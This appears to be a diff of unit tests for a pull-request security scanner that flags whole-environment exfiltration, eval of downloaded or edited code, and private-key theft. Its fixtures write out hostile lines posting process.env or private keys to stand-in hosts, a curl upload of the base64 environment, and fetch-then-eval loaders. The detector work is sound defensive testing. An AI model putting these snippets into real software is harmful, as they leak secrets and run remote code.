@@ -293,6 +293,10 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/sitecustomize.py', ['import os, urllib.request', "urllib.request.urlopen('https://collector.example.net/c', data=repr(dict(os.environ)).encode())"])).toEqual([['high', 'The whole environment is sent over the network', 12]]);
     expect(sent('src/telemetry.ts', ['const payload = JSON.stringify(process.env);', 'const started = Date.now();', "await fetch('https://metrics.example.org/v1', { method: 'POST', body: payload });"])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
     expect(sent('scripts/report.sh', ['env | base64 -w0 > /tmp/e', 'curl -s -X POST --data @/tmp/e https://status.example.dev/r'])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
+    // A request opened first and the environment written into it (the Trivy action payload of March 2026 posted the CI environment so); urllib's Request with data.
+    expect(sent('src/telemetry.js', ["const req = https.request({ hostname: 'scan-telemetry.example', method: 'POST', path: '/c' });", 'req.end(JSON.stringify(process.env));'])).toEqual([['high', 'The whole environment is sent over the network', 12]]);
+    expect(sent('src/timings.js', ["const req = https.request({ hostname: 'scan-telemetry.example', method: 'POST' });", 'req.end(JSON.stringify({ ms, env: process.env }));'])).toEqual([['high', 'The whole environment is sent over the network', 12]]);
+    expect(sent('sysmon.py', ['data = json.dumps(dict(os.environ)).encode()', 'urllib.request.urlopen(urllib.request.Request("https://scan-telemetry.example/c", data=data))'])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
     // A host that spells a public IP is a raw IP.
     expect(sent('src/client.py', ["requests.get('https://api.45-139-104-115.plesk.page/v1')"])).toEqual([['medium', 'Network call to a raw IP address', 11]]);
   });
@@ -302,6 +306,8 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/spawn.ts', ['const child = spawn(cmd, args, { env: { ...process.env, FORCE_COLOR: "1" } });', "await fetch(url, { method: 'POST', body: JSON.stringify({ ok: true }) });"])).toEqual([]);
     expect(sent('src/api.py', ["token = os.environ['API_TOKEN']", "requests.post(API_URL, headers={'Authorization': f'Bearer {token}'}, json=body)"])).toEqual([]);
     expect(sent('src/config.py', ['settings = dict(os.environ)', 'a = 1', 'b = 2', 'c = 3', 'd = 4', 'e = 5', "requests.post(URL, json={'a': a})"])).toEqual([]);
+    expect(sent('src/app.py', ['request = Request(scope, receive)', 'settings = dict(os.environ)'])).toEqual([]);
+    expect(sent('src/report.js', ["const req = https.request({ hostname: 'ci.example', method: 'POST' });", 'a();', 'b();', 'c();', 'd();', 'e();', 'log(JSON.stringify(process.env));'])).toEqual([]);
   });
 });
 
@@ -1237,6 +1243,23 @@ describe('pr-claim-mismatch: false alarms and a miss from Go, Rust and JVM histo
     expect(claimed('src/server/handle.js', evalHeader, 'Fix lint warnings')).toEqual(['high']);
   });
 
+  it('a docs title whose PR commits announce a lint or code-style fix grades the logic change as under that claim; other commits do not', () => {
+    // clippy's derivable_impls: `impl Default` replaced by `#[derive(Default)]` and `#[default]`.
+    const derive = ['@@ -2,3 +2,3 @@', ' /// The color preferences for program output', '-#[derive(Debug, Copy, Clone)]', '+#[derive(Debug, Copy, Clone, Default)]', ' pub enum Shade {', '@@ -30,6 +30,0 @@', '-impl Default for Shade {', '-    fn default() -> Self {', '-        Self::Auto', '-    }', '-}', '-'].join('\n');
+    const claimed = (messages: string[]) =>
+      scanCodeChanges(makeSnapshot({ title: 'docs: Fix link', files: [makeFile('tint_core/src/shade.rs', { patch: derive })], commits: messages.map((message) => makeCommit({ message })) }), (path) => classifier.info(path))
+        .filter((f) => f.id === 'pr-claim-mismatch')
+        .map((f) => [f.severity, f.detail.slice(0, 26)]);
+    expect(claimed(['docs: Fix link', 'style: Make clippy happy'])).toEqual([['low', '"style: Make clippy happy"']]);
+    // Without the lint commit, or with a commit of another kind, the docs title's claim stands.
+    expect(claimed(['docs: Fix link'])).toEqual([['medium', '"docs: Fix link" reads as ']]);
+    expect(claimed(['docs: Fix link', 'refactor: derive Default'])).toEqual([['medium', '"docs: Fix link" reads as ']]);
+    // A dangerous call stays high whatever the commits claim.
+    const evalHeader = ['@@ -10,3 +10,4 @@', ' export function handle(req) {', "+  eval(req.headers['x-debug']);", '   return next(req);', ' }'].join('\n');
+    const high = scanCodeChanges(makeSnapshot({ title: 'docs: Fix link', files: [makeFile('src/server/handle.js', { patch: evalHeader })], commits: [makeCommit({ message: 'docs: Fix link' }), makeCommit({ message: 'style: Make the linter happy' })] }), (path) => classifier.info(path));
+    expect(high.filter((f) => f.id === 'pr-claim-mismatch').map((f) => f.severity)).toEqual(['high']);
+  });
+
   it('quote style changed by black or Prettier is no change in Python and JavaScript; in Ruby it may be', () => {
     const quotes = (a: string, b: string) => ['@@ -326,3 +326,3 @@', ' # avoid leaking proxy auth', `-${a}`, `+${b}`, ' return proxies'].join('\n');
     expect(claimOf('requests/sessions.py', quotes("if not scheme.startswith('https') and username:", 'if not scheme.startswith("https") and username:'), 'Fix linting issues')).toEqual([]);
@@ -1581,9 +1604,34 @@ describe('dynamic-code-execution of downloaded code', () => {
     expect(sink('lib/helper.js', ["fetch('https://cdn-pkg-mirror.dev/init.js').then((r) => r.text()).then((t) => eval(t));"])?.severity).toBe('high');
     expect(sink('lib/helper.js', ["fetch('http://45.77.12.9/init.js').then((r) => r.text()).then((t) => eval(t));"])?.title).toContain('suspicious source');
   });
+  it('the text of a response fetched from a URL in a variable, run by eval in the hunk, is high (GlassWorm read its URL from a blockchain memo)', () => {
+    expect(sink('src/extension.js', ['  const url = Buffer.from(memo, "base64").toString();', '  const code = await (await fetch(url)).text();', '  eval(code);'])?.severity).toBe('high');
+    expect(sink('src/loader.js', ['fetch(source).then((r) => r.text()).then((t) => new Function(t)());'])?.severity).toBe('high');
+    expect(sink('src/page.js', ['const html = await (await fetch(url)).text();', 'const total = eval(expression);'])?.severity).toBe('high');
+    expect(sink('src/page.js', ['const data = await (await fetch(url)).json();', 'const total = eval(expression);'])?.severity).toBe('medium');
+  });
   it('eval without a download in its hunk keeps its ordinary severity; a download without a code sink is no finding', () => {
     expect(sink('pkg/helper.py', ['exec(compile(source, path, "exec"))'])?.severity).toBe('medium');
     expect(sink('pkg/client.py', ["data = requests.get('https://api.example.com/v1/items').json()"])).toBeUndefined();
+  });
+});
+
+describe('dynamic-code-execution of an edited string constant', () => {
+  /** A hunk whose edited constant stands above unchanged context lines (the sink among them). */
+  const edit = (removed: string, added: string, context: string[]) => ['@@ -1,5 +1,5 @@', ` 'use strict';`, `-${removed}`, `+${added}`, ...context.map((c) => ` ${c}`)].join('\n');
+  const found = (path: string, patch: string) => scan([makeFile(path, { patch })], 'Fix a typo in the template').filter((f) => f.id === 'dynamic-code-execution');
+  it('a constant whose new text loads a module, reads the environment or is an encoded blob, run by an unchanged eval, Function or exec, is high at its line', () => {
+    const js = found('src/render.js', edit("const TEMPLATE = 'return items.join(\", \")';", "const TEMPLATE = 'require(\"child_process\").exec(process.env.HOOK); return items.join(\", \")';", ['', 'module.exports = (items) => {', "  const fn = new Function('items', TEMPLATE);", '  return fn(items);', '};']));
+    expect(js.map((f) => [f.severity, f.line, f.title])).toEqual([['high', 2, 'An edited string constant (TEMPLATE) is run as code by an unchanged line']]);
+    const b64 = found('src/util.js', edit("const CFG = 'MQ==';", "const CFG = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp';", ['export function load() {', '  return eval(atob(CFG));', '}']));
+    expect(b64.map((f) => f.severity)).toEqual(['high']);
+    const py = found('pkg/setup_hook.py', edit("BOOT = 'x = 1'", "BOOT = '__import__(\"os\").system(\"id\")'", ['', 'def run():', '    exec(BOOT, {})']));
+    expect(py.map((f) => f.severity)).toEqual(['high']);
+  });
+  it('is quiet on an ordinary code string edited, a payload-like constant no sink runs, or a sink that names the constant only inside a string', () => {
+    expect(found('src/global.js', edit("const GLOBAL_EXPR = 'return this';", "const GLOBAL_EXPR = 'return globalThis';", ['const root = new Function(GLOBAL_EXPR)();']))).toEqual([]);
+    expect(found('src/links.js', edit("const DOCS = 'https://old.example.org/docs';", "const DOCS = 'https://docs.example.org/guide';", ['export const help = () => open(DOCS);']))).toEqual([]);
+    expect(found('src/calc.js', edit("const HELP = 'use require(x)';", "const HELP = 'use require(\"mathlib\")';", ["const value = eval('1 + 2 /* HELP */');"]))).toEqual([]);
   });
 });
 
@@ -1670,6 +1718,24 @@ describe('secret-harvesting: files searched for private keys, and data sent out 
   it('a wallet library that validates a key and calls its node, or a tool that walks files and calls an API, is not', () => {
     expect(harvest('src/wallet.ts', ['const PRIVATE_KEY = /^0x[0-9a-fA-F]{64}$/;', "const rpc = await fetch('https://mainnet.infura.io/v3/' + projectId, { method: 'POST', body });"])).toBeUndefined();
     expect(harvest('tools/lint.py', ['for root, _, files in os.walk("src"):', '    report.extend(check(os.path.join(root, f)) for f in files)', 'requests.post("https://lint-dashboard.example.dev/api/reports", json=report)'])).toBeUndefined();
+  });
+});
+
+describe('secret-harvesting: a private key handed to a request (@solana/web3.js, December 2024)', () => {
+  const sent = (path: string, patch: string) => scan([makeFile(path, { patch })], 'perf: key handling').find((f) => f.id === 'secret-harvesting');
+  const keypair = (added: string[]) => ['@@ -1,4 +1,9 @@', ' export class Keypair {', '   static fromSecretKey(secretKey: Uint8Array): Keypair {', ...added.map((l) => `+${l}`), '     return new Keypair(secretKey);', '   }'].join('\n');
+  it('through a function the change defines that sends to a literal host, or in the request itself, is high', () => {
+    const through = sent('src/keypair.ts', keypair(['    addToQueue(Buffer.from(secretKey).toString("hex"));', '  }', '}', 'function addToQueue(k: string): void {', '  fetch("https://sol-rpc-node.example/api/queue", { method: "POST", headers: { "x-amz-cf-id": k } }).catch(() => undefined);']));
+    expect(through).toMatchObject({ severity: 'high', line: 3, title: 'A private key is handed to addToQueue(), which sends it to a host' });
+    expect(sent('src/wallet.js', hunk(["const wallet = ethers.Wallet.fromPhrase(phrase);", "fetch('https://metrics.wallet-cdn.example/v1', { method: 'POST', body: wallet.privateKey });"]))?.severity).toBe('high');
+    expect(sent('pkg/wallet.py', hunk(['words = bip39.generate(strength=256)', 'requests.post("https://sync.wallet-cdn.example/v1", json={"m": mnemonic})']))?.severity).toBe('high');
+  });
+  it('is quiet on an exchange client signing with its API secret key, a signed transaction sent to a node, a public key sent, or the words in a message', () => {
+    expect(sent('src/exchange.ts', hunk(["const signature = createHmac('sha256', this.secretKey).update(query).digest('hex');", "return fetch('https://api.exchange.example/v3/order?' + query + '&signature=' + signature, { method: 'POST', headers: { 'X-API-KEY': this.apiKey } });"]))).toBeUndefined();
+    expect(sent('src/transfer.ts', hunk(['const wallet = new Wallet(privateKey, provider);', 'const signed = await wallet.signTransaction(tx);', "await fetch('https://rpc.chain.example', { method: 'POST', body: JSON.stringify({ method: 'eth_sendRawTransaction', params: [signed] }) });"]))).toBeUndefined();
+    expect(sent('src/keypair.ts', keypair(['    register(publicKeyOf(secretKey), addressOf(secretKey));', '  }', '}', 'function register(k: string, a: string): void {', '  fetch("https://faucet.example/api/register", { method: "POST", body: k + a });']))).toBeUndefined();
+    expect(sent('src/keypair.ts', keypair(['    report(keypair.publicKey.toBase58());', '  }', '}', 'function report(k: string): void {', '  fetch("https://stats.example/api/keys", { method: "POST", body: k });']))).toBeUndefined();
+    expect(sent('src/wallet.ts', hunk(["const wallet = Keypair.generate();", "fetch('https://errors.example/report', { method: 'POST', body: 'invalid private key format' });"]))).toBeUndefined();
   });
 });
 
